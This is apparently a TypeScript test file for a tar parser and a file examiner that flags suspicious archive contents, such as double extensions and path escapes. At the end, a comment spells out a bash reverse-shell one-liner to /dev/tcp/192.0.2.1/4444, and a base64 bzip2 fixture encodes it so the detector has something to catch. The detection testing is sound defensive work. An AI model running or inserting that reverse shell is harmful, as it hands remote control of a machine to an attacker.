import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { examineFile } from "./examine.ts";
import { peWith } from "./seeded-files.test.ts";
import { tarMembers } from "./tar.ts";

const TAR = ((): boolean => {
  try {
    return execFileSync("tar", ["--version"], { encoding: "utf8" }).includes("GNU tar");
  } catch {
    return false;
  }
})();

interface Made {
  readonly name: string;
  readonly body?: Uint8Array | string;
  readonly kind?: string;
  readonly magic?: string;
  readonly size?: string;
}

function headOf({ name, body = "", kind = "0", magic = "ustar\0" + "00", size }: Made): Uint8Array {
  const head = new Uint8Array(512);
  const put = (at: number, text: string): void => head.set(new TextEncoder().encode(text), at);
  put(0, name);
  put(124, size ?? Buffer.from(body).length.toString(8).padStart(11, "0"));
  put(148, " ".repeat(8));
  put(156, kind);
  put(257, magic);
  const sum = head.reduce((all, byte) => all + byte, 0);
  put(148, `${sum.toString(8).padStart(6, "0")}\0 `);
  return head;
}

function tarWith(rows: readonly Made[], end = true): Uint8Array {
  const parts = rows.flatMap((row) => {
    const body = Buffer.from(row.body ?? "");
    return [headOf(row), body, Buffer.alloc((512 - (body.length % 512)) % 512)];
  });
  return Uint8Array.from(Buffer.concat([...parts, ...(end ? [Buffer.alloc(1_024)] : [])]));
}

const listed = (bytes: Uint8Array): readonly (readonly [string, string])[] =>
  tarMembers(bytes).members.map(({ name, bytes: own }) => [name, Buffer.from(own(100)).toString()]);

describe("tarMembers", () => {
  it.each<readonly [string, readonly Made[], readonly (readonly [string, string])[]]>([
    [
      "two files",
      [
        { name: "a", body: "one" },
        { name: "b/c", body: "two" },
      ],
      [
        ["a", "one"],
        ["b/c", "two"],
      ],
    ],
    ["the oldest form", [{ name: "a", body: "one", magic: "", kind: "\0" }], [["a", "one"]]],
    [
      "folders and links are none",
      [
        { name: "d/", kind: "5" },
        { name: "l", kind: "2" },
        { name: "a", body: "x" },
      ],
      [["a", "x"]],
    ],
    [
      "a long name of GNU",
      [
        { name: "@LongLink", kind: "L", body: "long/name\0" },
        { name: "short", body: "x" },
      ],
      [["long/name", "x"]],
    ],
    [
      "a name of pax",
      [
        { name: "h", kind: "x", body: "18 path=b\u00fccher/x\n" },
        { name: "short", body: "x" },
        { name: "b", body: "y" },
      ],
      [
        ["b\u00fccher/x", "x"],
        ["b", "y"],
      ],
    ],
    [
      "a size of pax",
      [
        { name: "h", kind: "x", body: "10 size=3\n" },
        { name: "a", body: "one", size: "00000000000" },
      ],
      [["a", "one"]],
    ],
  ])("%s", (_, rows, expected) => {
    expect(listed(tarWith(rows))).toEqual(expected);
    expect(tarMembers(tarWith(rows)).whole).toBe(true);
  });

  it.each<readonly [string, Uint8Array]>([
    ["nothing", new Uint8Array(0)],
    ["text", new TextEncoder().encode("x".repeat(2_000))],
    ["a member that is cut", tarWith([{ name: "a", body: "x".repeat(600) }]).subarray(0, 1_024)],
    ["a size beyond the end", tarWith([{ name: "a", body: "one", size: "77777777777" }])],
  ])("TR1. %s is not whole", (_, bytes) => expect(tarMembers(bytes).whole).toBe(false));

  it("TR1. changed bytes never throw", () => {
    const good = tarWith([
      { name: "h", kind: "x", body: "18 path=b\u00fccher/x\n" },
      { name: "a", body: "one" },
    ]);
    fc.assert(
      fc.property(fc.nat(good.length - 1), fc.nat(255), (at, byte) => {
        const bad = good.slice();
        bad[at] = byte;
        return tarMembers(bad).members.length <= 2;
      }),
    );
  });

  it.skipIf(!TAR)("reads what GNU tar wrote, in each of its forms (skipped where it is not installed)", () => {
    const folder = mkdtempSync(join(tmpdir(), "cordon-tar-"));
    const long = `${"deep/".repeat(30)}${"n".repeat(60)}.txt`;
    mkdirSync(join(folder, "in", "deep/".repeat(30)), { recursive: true });
    writeFileSync(join(folder, "in", long), "far");
    writeFileSync(join(folder, "in", "near \u00fc.txt"), "near");
    symlinkSync("near \u00fc.txt", join(folder, "in", "link"));
    for (const form of ["v7", "gnu", "ustar", "pax"]) {
      const names = form === "v7" ? ["near \u00fc.txt"] : ["."];
      const bytes = execFileSync("tar", ["-c", `--format=${form}`, "-f", "-", "-C", join(folder, "in"), ...names]);
      const found = listed(bytes).map(([name, text]) => [name.replace(/^\.\//, ""), text]);
      expect(found.toSorted(), form).toEqual(
        form === "v7"
          ? [["near \u00fc.txt", "near"]]
          : [
              [long, "far"],
              ["near \u00fc.txt", "near"],
            ],
      );
    }
    rmSync(folder, { recursive: true });
  });
});

describe("archives within archives", () => {
  const tar = tarWith([
    { name: "invoice.pdf.exe", body: peWith({}) },
    { name: "../x", body: "x" },
  ]);
  it.each<readonly [string, string, Uint8Array, string]>([
    ["tar", "a.tar", tar, "tar"],
    ["tar in gzip", "a.tgz", Uint8Array.from(gzipSync(tar)), "gzip"],
  ])("%s is looked into", (_, name, bytes, kind) => {
    const seen = examineFile(name, bytes);
    expect(seen.kind).toBe(kind);
    expect(seen.signs.map(({ id }) => id)).toEqual(
      expect.arrayContaining(["archive-double-extension", "archive-path-escape"]),
    );
  });

  it("a tar that is cut says so", () => {
    expect(examineFile("a.tar", tar.subarray(0, 1_000)).limits).toEqual([
      "a.tar: the list of members is damaged or cut",
    ]);
  });

  it("a script in bzip2 is read", () => {
    const script = execScript();
    const seen = examineFile("x.sh.bz2", script);
    expect([seen.kind, seen.signs.map(({ id }) => id)]).toEqual(["bzip2", ["script-reverse-shell"]]);
  });
});

/** `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`, packed by bzip2 1.0.8. */
const execScript = (): Uint8Array =>
  Uint8Array.from(
    Buffer.from(
      "QlpoOTFBWSZTWROkKBoAAA/ZgEAQQQP0IT5gTQAgACKNDRoZAGhQaNGgyA0oWhhtGTNh8KCoFAvgEa+QlrCj1ee9Ffi7kinChICdIUDQ",
      "base64",
    ),
  );
